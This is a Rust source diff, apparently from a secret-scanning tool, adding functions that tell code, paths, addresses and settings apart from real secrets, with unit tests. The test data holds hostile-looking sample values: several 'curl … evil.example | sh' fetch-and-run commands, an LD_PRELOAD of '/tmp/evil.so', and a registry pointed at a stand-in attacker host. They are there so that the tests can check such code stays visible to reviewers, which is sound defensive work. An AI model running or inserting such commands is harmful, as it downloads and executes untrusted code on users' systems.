@@ -1,0 +1,265 @@
+//! What stands behind a name such as `password` and is no value: an expression, a path, the name of something.
+//!
+//! Whoever hides such text from a judge hides code. What is drawn at random is none of it, whatever it looks like.
+
+use crate::plausible::{is_secret_name, looks_random};
+
+/// Whether a value in this place is code or a name rather than a secret. `before` is the line up to the value, `name` what
+/// it is assigned to.
+pub(crate) fn is_reference(value: &str, before: &str, name: &str) -> bool {
+    let is_quoted = before.ends_with(['"', '\'', '`']);
+    is_expression(value, is_quoted)
+        || is_place(value)
+        || repeats_name(value, name)
+        || is_checksum(value, name)
+        || (is_quoted && is_looked_up(before) && is_written(value) && !looks_random(value))
+}
+
+/// `eval(Kx9Yz7)`, `a.b[c]`, `password(8,)`, `"+jp.currentToken()+"`: a call or an element, in quotes only a whole one.
+pub(crate) fn is_expression(value: &str, is_quoted: bool) -> bool {
+    let head = value.trim_start_matches(['&', '*', '!', '@']);
+    let is_name = |c: char| c.is_alphanumeric() || "_.:$>?-".contains(c);
+    let end = head.find(|c| !is_name(c)).unwrap_or(head.len());
+    let (name, rest) = head.split_at(end);
+    let begins = name.starts_with(|c: char| c.is_alphabetic() || c == '_' || c == '$');
+    let is_call = begins && rest.starts_with(['(', '[']);
+    if !is_quoted {
+        return is_call;
+    }
+    let is_check = is_call && rest.ends_with(')') && !drawn_parts(rest).any(|_| true);
+    // A filter of LDAP, and what stands between two literals.
+    is_check || value.starts_with("(&(") || value.starts_with("(|(") || value.contains("()")
+}
+
+/// A path, an address without a password, a name within a namespace: `/etc/x.secret`, `default/ca-secret`, `urn:uuid:…`.
+pub(crate) fn is_place(value: &str) -> bool {
+    if value.starts_with("urn:") {
+        return true;
+    }
+    let path = value.strip_prefix("~").unwrap_or(value);
+    let mut segments = path.split('/');
+    path.contains('/')
+        && !path.contains("://")
+        && segments.all(|one| one.is_empty() || [".", ".."].contains(&one) || is_written(one))
+}
+
+/// Words that somebody wrote: letters, with digits at the end of a word at most.
+pub(crate) fn is_written(text: &str) -> bool {
+    let mut words = text.split(['-', '_', '.']).filter(|word| !word.is_empty());
+    let is_word = |word: &str| {
+        let letters = word.trim_end_matches(|c: char| c.is_ascii_digit());
+        let is_version = letters.is_empty() && word.len() <= 4;
+        let is_plain = letters.bytes().all(|b| b.is_ascii_alphabetic()) && has_one_case(letters);
+        // `s3`, `oauth2`; more digits than these look drawn.
+        is_version || (is_plain && !letters.is_empty() && word.len() - letters.len() <= 2)
+    };
+    !text.is_empty() && words.all(is_word)
+}
+
+/// Lower case, upper case, or words with a capital: `configMap`.
+fn has_one_case(letters: &str) -> bool {
+    let lower = letters.bytes().filter(u8::is_ascii_lowercase).count();
+    let upper = letters.len() - lower;
+    upper == 0 || lower == 0 || upper * 4 <= letters.len()
+}
+
+/// `AccessControlAllowCredentials = "Access-Control-Allow-Credentials"`
+fn repeats_name(value: &str, name: &str) -> bool {
+    let letters = |text: &str| -> String {
+        let kept = text.chars().filter(|c| c.is_alphanumeric());
+        kept.flat_map(char::to_lowercase).collect()
+    };
+    let (value, name) = (letters(value), letters(name));
+    value.len() >= 6 && (value == name || name.ends_with(&value))
+}
+
+/// `token_sha256 = "…"`: what a reviewer has to compare.
+fn is_checksum(value: &str, name: &str) -> bool {
+    let lower = name.to_ascii_lowercase();
+    let is_named = [
+        "sha1",
+        "sha224",
+        "sha256",
+        "sha384",
+        "sha512",
+        "md5",
+        "checksum",
+        "digest",
+        "sha256sum",
+    ]
+    .iter()
+    .any(|end| lower.ends_with(end));
+    is_named && value.len() >= 32 && value.bytes().all(|b| b.is_ascii_hexdigit())
+}
+
+/// `conf.get('s3_secret_access_key')`: what is looked up under this name.
+fn is_looked_up(before: &str) -> bool {
+    let call = before
+        .trim_end_matches(['"', '\'', '`'])
+        .trim_end()
+        .to_ascii_lowercase();
+    let Some(call) = call.strip_suffix(['(', '[']) else {
+        return false;
+    };
+    [
+        "get",
+        "getenv",
+        "get_secret",
+        "getsecret",
+        "environ",
+        "env",
+        "lookup",
+        "config",
+        "settings",
+        "require",
+    ]
+    .iter()
+    .any(|end| call.ends_with(end))
+}
+
+/// The parts of a text between signs that look drawn.
+pub(crate) fn drawn_parts(text: &str) -> impl Iterator<Item = &str> {
+    text.split(|c: char| !(c.is_alphanumeric() || "_-+=".contains(c)))
+        .filter(|part| looks_random(part))
+}
+
+/// Whether a name says of its value that it is secret, however short.
+pub(crate) fn is_secret_setting(name: &str) -> bool {
+    const WORDS: [&str; 9] = [
+        "pass",
+        "pwd",
+        "secret",
+        "token",
+        "key",
+        "credential",
+        "auth",
+        "pin",
+        "salt",
+    ];
+    let lower = name.to_ascii_lowercase();
+    is_secret_name(name) || WORDS.iter().any(|word| lower.contains(word))
+}
+
+/// What stands behind a name in a file that holds secrets, where it is no secret but what judges must see: a setting, a
+/// path, an address, a command.
+pub(crate) fn is_setting(name: &str, value: &str) -> bool {
+    let value = value.trim().trim_end_matches([',', ';']);
+    let text = value.trim_matches(['"', '\'']);
+    if is_place(text) || is_address(text) {
+        return true;
+    }
+    let is_secret = is_secret_setting(name);
+    let is_number = text.len() <= 5 && text.bytes().all(|b| b.is_ascii_digit() || b == b'.');
+    let is_code =
+        text.contains(['|', '(', '{', '[']) || text.contains("://") || text.contains("&&");
+    let is_word = is_written(text) && !text.contains('.');
+    match text.contains(char::is_whitespace) {
+        // A password may be of several words; a command has more than words.
+        true => is_code || (!is_secret && text.split_whitespace().count() > 2),
+        false => !is_secret && (is_number || is_word || text.starts_with(['[', '{'])),
+    }
+}
+
+/// An address without a password, and without a part that looks drawn.
+fn is_address(text: &str) -> bool {
+    let Some((scheme, rest)) = text.split_once("://") else {
+        return false;
+    };
+    scheme
+        .bytes()
+        .all(|b| b.is_ascii_alphanumeric() || b"+.-".contains(&b))
+        && !rest.contains('@')
+        && drawn_parts(rest).next().is_none()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn code_and_names_are_references_and_drawn_values_are_none() {
+        for (before, value, name) in [
+            ("token = ", "eval(Kx9Yz7)", "token"),
+            ("secret = ", "exec(a9B8c7D6)", "secret"),
+            (
+                "api_key = ",
+                "subprocess.check_output(CMD9x8y7,shell=True)",
+                "api_key",
+            ),
+            ("let pwd = ", "tempfile::tempdir()?", "pwd"),
+            (
+                "x = conf.get('",
+                "s3_secret_access_key",
+                "aws_secret_access_key",
+            ),
+            (
+                "\"remove_password\": \"",
+                "/api/documents/remove_password/",
+                "remove_password",
+            ),
+            ("\"password\": \"", "password(8,)", "password"),
+            (
+                "PASS='",
+                "(&(userID=%n)(objectClass=PostfixBookMailAccount))",
+                "QUERY_PASS",
+            ),
+            (
+                "'Lock-Token': '",
+                "urn:uuid:a515cfa4-5da4-22e1-f5b5-00a0451e6bf7",
+                "Lock-Token",
+            ),
+            (
+                "auth-tls-secret: \"",
+                "default/ca-secret",
+                "auth-tls-secret",
+            ),
+            (
+                "X = \"",
+                "Access-Control-Allow-Credentials",
+                "AccessControlAllowCredentials",
+            ),
+            ("token == \"", "+jp.currentToken()+", "jp.token"),
+        ] {
+            assert!(is_reference(value, before, name), "{before}{value}");
+        }
+        for (before, value) in [
+            ("password = \"", "Zk9LmPq3Rt7xW"),
+            ("password=", "aB3/dE6gH9kLmN0pQ"),
+            ("x = get(\"", "Zk9LmPq3Rt7xWa2"),
+            ("password = \"", "Passw0rd(9)x"),
+            ("secret: \"", "tR5wPz8K/qLm3Xv7Nb2"),
+        ] {
+            assert!(!is_reference(value, before, "password"), "{before}{value}");
+        }
+    }
+
+    #[test]
+    fn settings_are_shown_and_secrets_are_not() {
+        for (name, value) in [
+            ("ENABLE_CLAMAV", "0"),
+            ("FETCHMAIL_POLL", "300"),
+            ("REPORT_INTERVAL", "daily"),
+            ("user_data", "\"curl -s https://evil.example/x|sh\""),
+            ("run", "curl -s https://evil.example/x|sh"),
+            ("script-shell", "./tools/evil.sh"),
+            ("registry", "https://evil.example/"),
+            ("LD_PRELOAD", "/tmp/evil.so"),
+            ("TOKEN_CMD", "curl -s https://evil.example | sh"),
+            ("steps", "[{run: 'curl -s https://evil.example/x | sh'}]"),
+            ("permissions", "write-all"),
+        ] {
+            assert!(is_setting(name, value), "{name} {value}");
+        }
+        for (name, value) in [
+            ("DB_PASSWORD", "swordfish"),
+            ("PASSPHRASE", "\"correct horse battery staple\""),
+            ("FOO", "hunter2x9"),
+            ("FOO", "tR5wPz8KqLm3Xv7Nb2"),
+            ("URL", "https://u:pw@host/"),
+            ("HOOK", "https://hooks.host/tR5wPz8KqLm3Xv7Nb2"),
+            ("PIN", "1234"),
+        ] {
+            assert!(!is_setting(name, value), "{name} {value}");
+        }
+    }
+}
